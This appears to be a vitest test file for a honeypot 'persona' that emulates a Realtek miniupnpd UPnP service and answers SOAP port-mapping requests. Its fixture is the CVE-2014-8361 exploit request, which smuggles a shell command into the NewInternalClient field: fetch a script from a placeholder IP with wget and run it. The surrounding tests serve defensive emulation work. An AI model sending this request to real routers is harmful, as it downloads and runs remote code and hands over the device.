import { describe, expect, it } from "vitest";
import type { PersonaReply } from "./persona.js";
import { bodyText, drive, header, oneResponse } from "./persona-fixture.js";
import { REALTEK_SERVER, realtekPersona } from "./realtek.js";

const ADD = `<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" s:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body><u:AddPortMapping xmlns:u="urn:schemas-upnp-org:service:WANIPConnection:1"><NewRemoteHost></NewRemoteHost><NewExternalPort>47450</NewExternalPort><NewProtocol>TCP</NewProtocol><NewInternalPort>44382</NewInternalPort><NewInternalClient>\`cd /var; wget http://198.51.100.7/r -O r; sh r\`</NewInternalClient><NewEnabled>1</NewEnabled><NewPortMappingDescription>syncthing</NewPortMappingDescription><NewLeaseDuration>0</NewLeaseDuration></u:AddPortMapping></s:Body></s:Envelope>\r\n\r\n`;

function post(path: string, action: string | undefined): string {
  const soapAction = action === undefined ? "" : `SOAPAction: ${action}\r\n`;
  return `POST ${path} HTTP/1.1\r\nHost: 127.0.0.1:52869\r\nContent-Length: ${ADD.length}\r\nAccept-Encoding: gzip, deflate\r\n${soapAction}Accept: */*\r\nUser-Agent: Hello-World\r\nConnection: keep-alive\r\n\r\n${ADD}`;
}

function only(replies: PersonaReply[]) {
  expect(replies).toHaveLength(1);
  return oneResponse(replies[0] as PersonaReply);
}

describe("realtek persona", () => {
  it("answers the CVE-2014-8361 AddPortMapping with miniupnpd's success, then closes", () => {
    for (const path of ["/picdesc.xml", "/picsdesc.xml", "/wanipcn.xml"]) {
      const replies = drive(realtekPersona, [
        post(path, "urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping"),
      ]);
      const res = only(replies);
      expect(res.status).toBe(200);
      expect(header(res, "server")).toBe(REALTEK_SERVER);
      expect(bodyText(res)).toContain(
        '<u:AddPortMappingResponse xmlns:u="urn:schemas-upnp-org:service:WANIPConnection:1">',
      );
      expect(replies[0]?.close).toBe(true);
    }
  });

  it("serves the device and service descriptions", () => {
    const root = only(drive(realtekPersona, ["GET /picsdesc.xml HTTP/1.1\r\nHost: x\r\n\r\n"]));
    expect(bodyText(root)).toContain("urn:schemas-upnp-org:device:InternetGatewayDevice:1");
    expect(bodyText(root)).toContain("<SCPDURL>/wanipcn.xml</SCPDURL>");
    const scpd = only(drive(realtekPersona, ["GET /wanipcn.xml HTTP/1.1\r\nHost: x\r\n\r\n"]));
    expect(bodyText(scpd)).toContain("<name>AddPortMapping</name>");
    expect(bodyText(scpd)).toContain("<name>NewInternalClient</name>");
  });

  it("answers a quoted SOAPAction, refuses unknown actions and POSTs without one", () => {
    const quoted = only(
      drive(realtekPersona, [
        post("/x", '"urn:schemas-upnp-org:service:WANIPConnection:1#DeletePortMapping"'),
      ]),
    );
    expect(bodyText(quoted)).toContain("DeletePortMappingResponse");
    const unknown = only(drive(realtekPersona, [post("/x", "urn:x#Reboot")]));
    expect(unknown.status).toBe(500);
    expect(bodyText(unknown)).toContain("<errorCode>401</errorCode>");
    expect(only(drive(realtekPersona, [post("/x", undefined)])).status).toBe(400);
    expect(only(drive(realtekPersona, ["GET / HTTP/1.1\r\n\r\n"])).status).toBe(404);
    expect(realtekPersona.ports).toEqual([52869]);
  });
});
